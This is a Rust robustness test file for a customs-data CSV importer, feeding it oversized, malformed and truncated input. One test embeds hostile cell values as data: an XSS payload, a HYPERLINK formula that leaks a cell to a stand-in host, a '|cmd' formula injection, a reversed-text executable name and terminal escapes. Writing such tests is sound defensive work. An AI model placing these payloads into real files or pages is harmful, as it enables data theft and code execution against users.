//! Text files.

use crate::{HEADER, LINE, survive, survive_cuts};

fn lines(count: usize) -> String {
    let mut text = format!("{HEADER}\n");
    for _ in 0..count {
        text += LINE;
        text.push('\n');
    }
    text
}

#[test]
fn a_header_of_a_million_characters() {
    let long = "x".repeat(1_000_000);
    let _ = survive(
        "a long title",
        format!("{HEADER},{long}\n{LINE},1\n").as_bytes(),
    );
    let _ = survive("nothing but a title", long.as_bytes());
}

#[test]
fn more_columns_than_a_spreadsheet_has() {
    let wide = format!(
        "{HEADER}{}\n{LINE}{}\n",
        ",c".repeat(16_384),
        ",1".repeat(16_384)
    );
    let _ = survive("16,390 columns", wide.as_bytes());
    let _ = survive("a million delimiters", ",".repeat(1_000_000).as_bytes());
}

#[test]
fn a_quote_that_never_ends() {
    let mut text = lines(10);
    text.push('"');
    text += &lines(200_000);
    let _ = survive("an open quote", text.as_bytes());
    let _ = survive("quotes alone", "\"".repeat(3_000_001).as_bytes());
}

#[test]
fn bytes_that_are_no_text() {
    let mut text = lines(100).into_bytes();
    text.extend([0; 4096]);
    text.extend(lines(100).into_bytes());
    let _ = survive("zeros in the middle", &text);
    let _ = survive("zeros alone", &[0; 1 << 20]);
    let _ = survive(
        "every byte",
        &(0..=255).cycle().take(1 << 20).collect::<Vec<u8>>(),
    );

    let half: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain(lines(3).encode_utf16().flat_map(u16::to_le_bytes))
        .chain(0xD800_u16.to_le_bytes())
        .chain(lines(3).encode_utf16().flat_map(u16::to_le_bytes))
        .chain([0x3D])
        .collect();
    let _ = survive("half a surrogate, half a unit", &half);
    let _ = survive("cut UTF-8", &[lines(2).as_bytes(), b"\xE2\x82"].concat());
}

#[test]
fn names_and_cells_that_are_markup_or_formulas() {
    let cells = [
        "<img src=x onerror=alert(1)>",
        "=HYPERLINK(\"http://x/\"&A1)",
        "@SUM(1)",
        "+1-1|cmd",
        "\u{202E}gpj.exe",
        "\u{7}\u{1B}[2J",
    ];
    let mut text = String::from("Entry Number,HTS,Value,Description\n");
    for cell in cells {
        text += &format!(
            "ABC12345676,8471300100,1,\"{}\"\n",
            cell.replace('"', "\"\"")
        );
    }
    assert_eq!(survive("markup & formulas <b>.csv", text.as_bytes()), Ok(7));
}

#[test]
fn numbers_that_no_money_is() {
    let mut text = format!("{HEADER}\n");
    for value in [
        "9".repeat(400),
        "1e308".into(),
        "-0".into(),
        "NaN".into(),
        "∞".into(),
    ] {
        text += &format!("ABC12345676,1,8471300100,{value},99/99/9999,ZZ\n");
    }
    assert_eq!(survive("impossible numbers", text.as_bytes()), Ok(6));
}

#[test]
fn a_text_file_cut_off_anywhere() {
    survive_cuts("a text file", lines(200).as_bytes());
}
